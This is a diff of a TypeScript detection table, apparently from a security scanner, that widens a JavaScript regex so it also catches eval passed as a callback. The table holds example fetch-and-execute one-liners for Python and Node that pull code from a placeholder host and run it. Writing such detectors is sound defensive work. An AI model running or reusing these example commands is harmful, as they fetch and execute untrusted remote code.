@@ -82,7 +82,8 @@ export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; exa
     example: `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example.com/p').read())"`,
   },
   js: {
-    evaluates: /\beval\s*\(|new\s+Function\s*\(|\bFunction\s*\(|vm\.run|runInThisContext|import\s*\(\s*['"]https?:/,
+    // eval called, or passed as a function value (`.then(eval)`).
+    evaluates: /\beval\s*[(),;]|new\s+Function\s*\(|\bFunction\s*\(|vm\.run|runInThisContext|import\s*\(\s*['"]https?:/,
     fetches: /\bfetch\s*\(|https?\.get\s*\(|axios|require\s*\(\s*['"]https?['"]\s*\)|import\s*\(\s*['"]https?:/,
     example: `node -e "fetch('https://x.example.com/p').then(r => r.text()).then(eval)"`,
   },
